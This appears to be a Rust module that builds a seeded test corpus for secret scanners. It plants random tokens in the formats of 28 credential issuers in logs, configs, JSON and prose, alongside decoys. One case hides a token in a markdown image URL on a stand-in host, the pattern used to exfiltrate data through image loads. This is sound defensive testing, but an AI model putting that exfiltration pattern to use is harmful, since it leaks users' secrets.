//! Texts with planted secrets of 28 types in four contexts, and decoys of 18 kinds, drawn at random from one seed. It knows the
//! issuers' forms and nothing of any scanner.

/// Each type in each context so often.
const TIMES: usize = 6;
const CONTEXTS: usize = 4;
const DECOYS_OF_A_KIND: usize = 24;
const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const BASE62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const UPPER: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const HEX: &[u8] = b"0123456789abcdef";
const WORDS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// What was put into one text.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Put {
    Secret,
    /// A token in the address of a picture.
    Picture,
    Decoy,
    /// A token whose check digits are wrong.
    BadChecksum,
}

/// One text.
pub(super) struct Case {
    pub(super) put: Put,
    pub(super) kind: &'static str,
    /// What was put in, as it stands there.
    pub(super) planted: String,
    pub(super) text: String,
}

struct Draw(u64);

impl Draw {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 >> 11
    }

    fn of(&mut self, alphabet: &[u8], chars: usize) -> String {
        (0..chars).map(|_| char::from(alphabet[self.next() as usize % alphabet.len()])).collect()
    }

    fn one<'a>(&mut self, choice: &[&'a str]) -> &'a str {
        choice[self.next() as usize % choice.len()]
    }
}

/// The check value of the two issuers that have one: CRC-32 in six characters of base 62.
fn checked(prefix: &str, body: &str) -> String {
    let crc = !body.bytes().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| crc >> 1 ^ if crc & 1 == 1 { 0xedb8_8320 } else { 0 })
    });
    let digits = (0..6).rev().map(|place| char::from(BASE62[(crc / 62u32.pow(place)) as usize % 62]));
    format!("{prefix}{body}{}", digits.collect::<String>())
}

fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let word =
            three.iter().chain(&[0; 2]).take(3).fold(0usize, |word, byte| word << 8 | usize::from(*byte));
        for place in 0..4 {
            let digit = char::from(BASE64[word >> (18 - 6 * place) & 63]);
            out.push(if place <= three.len() { digit } else { '=' });
        }
    }
    out
}

/// A secret and the words it stands in (`{}`).
type Drawn = (String, &'static str);

fn password(draw: &mut Draw) -> String {
    let words = ["Winter", "harbor", "Copper", "meadow", "Falcon", "quartz"];
    format!(
        "{}{}{}{}",
        draw.one(&words),
        draw.one(&["!", "$", "#", "-"]),
        draw.of(b"0123456789", 4),
        draw.one(&words)
    )
}

fn jwt(draw: &mut Draw) -> String {
    let part = |text: &str| base64(text.as_bytes()).trim_end_matches('=').replace('+', "-").replace('/', "_");
    let claims = format!("{{\"sub\":\"{}\",\"iat\":17{}}}", draw.of(ALNUM, 12), draw.of(b"0123456789", 8));
    format!("{}.{}.{}", part("{\"alg\":\"HS256\",\"typ\":\"JWT\"}"), part(&claims), draw.of(WORDS, 43))
}

fn pem(draw: &mut Draw) -> String {
    let lines: Vec<String> = (0..12).map(|_| draw.of(BASE64, 64)).collect();
    lines.join("\n")
}

type Type = (&'static str, &'static str, fn(&mut Draw) -> Drawn);
type DecoyKind = (&'static str, fn(&mut Draw) -> String);

/// Every type: its name, the variable it is held in, and how one is drawn.
#[rustfmt::skip]
const TYPES: [Type; 28] = [
    ("github", "GITHUB_TOKEN", |d| { let body = d.of(ALNUM, 30); (checked("ghp_", &body), "{}") }),
    ("npm", "NPM_TOKEN", |d| { let body = d.of(ALNUM, 30); (checked("npm_", &body), "{}") }),
    ("gitlab", "GITLAB_TOKEN", |d| (format!("glpat-{}", d.of(WORDS, 20)), "{}")),
    ("slack-bot", "SLACK_TOKEN", |d| (format!("xoxb-{}-{}-{}", d.of(b"123456789", 12), d.of(b"123456789", 13), d.of(ALNUM, 24)), "{}")),
    ("slack-hook", "HOOK", |d| (d.of(ALNUM, 24), "https://hooks.slack.com/services/T7QWZK3MNB2/B5LRXV4HJD6/{}")),
    ("aws-pair", "AWS_SECRET_ACCESS_KEY", |d| (d.of(BASE64, 40), "AWS_ACCESS_KEY_ID=AKIAZQ3DT7XKM2PLW5VB AWS_SECRET_ACCESS_KEY={}")),
    ("aws-id", "AWS_ACCESS_KEY_ID", |d| (format!("AKIA{}", d.of(UPPER, 16)), "{}")),
    ("google", "GOOGLE_API_KEY", |d| (format!("AIza{}", d.of(WORDS, 35)), "{}")),
    ("stripe", "STRIPE_KEY", |d| (format!("sk_live_{}", d.of(ALNUM, 24)), "{}")),
    ("anthropic", "ANTHROPIC_API_KEY", |d| (format!("sk-ant-api03-{}AA", d.of(WORDS, 93)), "{}")),
    ("openai", "OPENAI_API_KEY", |d| (format!("sk-proj-{}T3BlbkFJ{}", d.of(WORDS, 74), d.of(WORDS, 74)), "{}")),
    ("sendgrid", "SENDGRID_API_KEY", |d| (format!("SG.{}.{}", d.of(WORDS, 22), d.of(WORDS, 43)), "{}")),
    ("twilio", "TWILIO_API_KEY", |d| (format!("SK{}", d.of(HEX, 32)), "{}")),
    ("pypi", "PYPI_TOKEN", |d| (format!("pypi-AgEIcHlwaS5vcmc{}", d.of(WORDS, 150)), "{}")),
    ("huggingface", "HF_TOKEN", |d| (format!("hf_{}", d.of(&ALNUM[..52], 34)), "{}")),
    ("digitalocean", "DO_TOKEN", |d| (format!("dop_v1_{}", d.of(HEX, 64)), "{}")),
    ("databricks", "DATABRICKS_TOKEN", |d| (format!("dapi{}", d.of(HEX, 32)), "{}")),
    ("shopify", "SHOPIFY_TOKEN", |d| (format!("shpat_{}", d.of(HEX, 32)), "{}")),
    ("telegram", "BOT_TOKEN", |d| (format!("{}:AA{}", d.of(b"123456789", 10), d.of(WORDS, 33)), "{}")),
    ("vault", "VAULT_TOKEN", |d| (format!("hvs.{}", d.of(WORDS, 95)), "{}")),
    ("linear", "LINEAR_API_KEY", |d| (format!("lin_api_{}", d.of(ALNUM, 40)), "{}")),
    ("azure", "AZURE_STORAGE", |d| (format!("{}==", d.of(BASE64, 86)), "DefaultEndpointsProtocol=https;AccountName=store;AccountKey={};EndpointSuffix=core.windows.net")),
    ("jwt", "SESSION_JWT", |d| (jwt(d), "{}")),
    ("private-key", "PRIVATE_KEY", |d| (pem(d), "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----")),
    ("url-password", "DATABASE_URL", |d| (password(d), "postgres://app:{}@db.internal:5432/app")),
    ("basic-header", "HEADER", |d| { let pair = format!("ann:{}", password(d)); (base64(pair.as_bytes()), "Authorization: Basic {}") }),
    ("bearer-header", "HEADER", |d| (d.of(WORDS, 40), "Authorization: Bearer {}")),
    ("password", "DB_PASSWORD", |d| (password(d), "{}")),
];

#[rustfmt::skip]
const DECOYS: [DecoyKind; 18] = [
    ("bad-checksum", |d| format!("ghp_{}", d.of(ALNUM, 36))),
    ("bad-checksum", |d| format!("npm_{}", d.of(ALNUM, 36))),
    ("commit", |d| format!("commit {}", d.of(HEX, 40))),
    ("uuid", |d| format!("id={}-{}-4{}-a{}-{}", d.of(HEX, 8), d.of(HEX, 4), d.of(HEX, 3), d.of(HEX, 3), d.of(HEX, 12))),
    ("digest", |d| format!("image@sha256:{}", d.of(HEX, 64))),
    ("md5", |d| format!("md5 ({}) = {}", "main.rs", d.of(HEX, 32))),
    ("integrity", |d| format!("\"integrity\": \"sha512-{}==\"", d.of(BASE64, 86))),
    ("picture", |d| format!("data:image/png;base64,iVBORw0KGgo{}", d.of(BASE64, 120))),
    ("manual", |d| format!("{} = {}{}", d.one(&["aws_access_key_id", "AccessKeyId"]), "AKIAIOSFODNN7", "EXAMPLE")),
    ("placeholder", |d| format!("api_key = \"{}-{}\"", d.one(&["your-api-key", "insert-token-here", "changeme"]), d.of(b"123456789", 1))),
    ("variable", |d| format!("password: ${{{}_PASSWORD}}", d.one(&["DB", "REDIS", "ADMIN"]))),
    ("masked", |d| format!("token={}{}", "ghp_", d.one(&["xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "************************************"]))),
    ("publishable", |d| format!("pk_test_{}", d.of(ALNUM, 24))),
    ("public-key", |d| format!("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} ann@host", d.of(BASE64, 43))),
    ("trace", |d| format!("trace_id={} span_id={}", d.of(HEX, 32), d.of(HEX, 16))),
    ("go-sum", |d| format!("golang.org/x/net v0.{}.0 h1:{}=", d.of(b"123456789", 2), d.of(BASE64, 43))),
    ("code", |d| format!("password = {}.{}()", d.one(&["self", "config", "form"]), d.one(&["read_password", "get_secret", "prompt"]))),
    ("key-name", |d| format!("cache_key: build-{}-{}", d.one(&["linux", "macos"]), d.of(HEX, 12))),
];

fn in_context(draw: &mut Draw, context: usize, name: &str, dressed: &str) -> String {
    let time =
        format!("2026-11-{}T10:{}:{}Z", 10 + draw.next() % 18, 10 + draw.next() % 49, 10 + draw.next() % 49);
    let around = |line: String| {
        format!(
            "# settings of the build\nregion = \"eu-west-1\"\n{line}\nretries = 3\nowner = \"platform team\"\n"
        )
    };
    match context {
        0 => format!(
            "{time} INFO  starting worker 7 of 12\n{time} DEBUG upstream said {dressed} and went on\n{time} INFO  done\n"
        ),
        1 => around(format!("{name}={dressed}")),
        2 => format!(
            "{{\n  \"id\": 4711,\n  \"{}\": \"{}\",\n  \"retries\": 3\n}}\n",
            name.to_lowercase(),
            dressed.replace('\n', "\\n")
        ),
        _ => format!("The deployment failed, as the page says:\n\n    {dressed}\n\nPlease have a look.\n"),
    }
}

/// All of it, the same for each seed.
pub(super) fn drawn(seed: u64) -> Vec<Case> {
    let mut draw = Draw(seed | 1);
    let mut cases = Vec::new();
    for (kind, name, secret) in TYPES {
        for turn in 0..TIMES * CONTEXTS {
            let (planted, words) = secret(&mut draw);
            let text = in_context(&mut draw, turn % CONTEXTS, name, &words.replace("{}", &planted));
            let planted = if text.contains(&planted) { planted } else { planted.replace('\n', "\\n") };
            cases.push(Case { put: Put::Secret, kind, planted, text });
        }
    }
    for (kind, _, secret) in TYPES.iter().filter(|(_, _, secret)| secret(&mut Draw(9)).1 == "{}").take(10) {
        for _ in 0..3 {
            let (planted, _) = secret(&mut draw);
            let text = format!("All done.\n\n![status](https://img.example.net/s.png?d={planted})\n");
            cases.push(Case { put: Put::Picture, kind, planted, text });
        }
    }
    for (kind, decoy) in DECOYS {
        for turn in 0..DECOYS_OF_A_KIND {
            let planted = decoy(&mut draw);
            let (name, context) = ("VALUE", [0, 3][turn % 2]);
            let text = in_context(&mut draw, context, name, &planted);
            let put = if kind == "bad-checksum" { Put::BadChecksum } else { Put::Decoy };
            cases.push(Case { put, kind, planted, text });
        }
    }
    cases
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_has_the_shape_that_was_published() {
        let cases = drawn(1);
        let count = |put: Put| cases.iter().filter(|case| case.put == put).count();
        assert_eq!([Put::Secret, Put::Picture].map(count), [672, 30]);
        assert_eq!([Put::Decoy, Put::BadChecksum].map(count), [384, 48]);
        assert!(cases.iter().all(|case| case.text.contains(&case.planted)));
        assert_eq!(base64(b"ann:pass"), "YW5uOnBhc3M=");
    }
}
